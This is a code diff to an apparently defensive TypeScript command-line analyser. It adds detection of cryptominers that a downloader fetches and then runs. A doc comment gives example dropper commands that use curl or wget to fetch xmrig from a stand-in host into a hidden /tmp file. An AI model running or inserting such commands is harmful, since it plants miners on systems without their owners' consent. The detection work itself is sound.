@@ -156,6 +156,11 @@ export interface CommandLineAnalysis {
   wallets: { coin: string; wallet: string }[];
   /** A downloader piped into (or substituted into) a shell, or base64-decoded text run by a shell. */
   downloadAndRun: boolean;
+  /**
+   * Miners a downloader fetches by name (`curl http://x/xmrig -o /tmp/.x`, `wget .../xmrig.tar.gz`), when a
+   * later command of the same line runs a local file or a shell: fetched, then started.
+   */
+  minersFetchedAndRun: MinerInfo[];
 }
 
 /** Read a command line for everything a miner or a dropper leaves in it. */
@@ -165,7 +170,7 @@ export function analyseCommandLine(commandLine: string, intel: Intel): CommandLi
   const out: CommandLineAnalysis = {
     segments, onlyTextTools: segments.length > 0 && active.length === 0,
     minersRun: [], masqueradesRun: [], campaignRun: [], dropPathRun: [], minerArgs: [], schemes: [], urls: [], endpoints: [],
-    wallets: [], downloadAndRun: false,
+    wallets: [], downloadAndRun: false, minersFetchedAndRun: [],
   };
   const campaign = new Set(intel.campaignProcessNames);
   const dropPaths = intel.dropPaths.map((d) => d.toLowerCase());
@@ -198,7 +203,42 @@ export function analyseCommandLine(commandLine: string, intel: Intel): CommandLi
   }
   out.wallets = active.length > 0 ? intel.findWallets(activeText) : [];
   out.downloadAndRun = isDownloadAndRun(segments, substitution);
+  out.minersFetchedAndRun = minersFetchedAndRun(active, intel);
   return out;
+}
+
+/** Archive and script suffixes a fetched miner comes wrapped in. */
+const FETCH_SUFFIXES = [".tar.gz", ".tgz", ".tar.xz", ".tar", ".zip", ".gz", ".xz"];
+
+/** The file name a URL token fetches, without archive suffixes, lower case ("http://x/a/xmrig.tar.gz" → "xmrig"). */
+function fetchedName(token: string): string | undefined {
+  const scheme = token.indexOf("://");
+  if (scheme === -1) return undefined;
+  let path = token.slice(scheme + 3);
+  for (const stop of ["?", "#"]) {
+    const i = path.indexOf(stop);
+    if (i !== -1) path = path.slice(0, i);
+  }
+  const slash = path.indexOf("/");
+  if (slash === -1) return undefined;
+  let name = baseName(path.slice(slash));
+  for (const suffix of FETCH_SUFFIXES) if (name.endsWith(suffix)) { name = name.slice(0, -suffix.length); break; }
+  return name || undefined;
+}
+
+function minersFetchedAndRun(active: CommandSegment[], intel: Intel): MinerInfo[] {
+  const fetched: MinerInfo[] = [];
+  for (const s of active) {
+    const runsLocal = s.program.startsWith("/") || s.program.startsWith("./") || s.chain.some((c) => SHELLS.has(c));
+    if (fetched.length > 0 && runsLocal && !s.chain.some((c) => DOWNLOADERS.has(c))) return fetched;
+    if (!s.chain.some((c) => DOWNLOADERS.has(c))) continue;
+    for (const token of s.tokens) {
+      const name = fetchedName(token);
+      const miner = name !== undefined ? intel.minerByProcessName(name) : undefined;
+      if (miner && !fetched.includes(miner)) fetched.push(miner);
+    }
+  }
+  return [];
 }
 
 /**
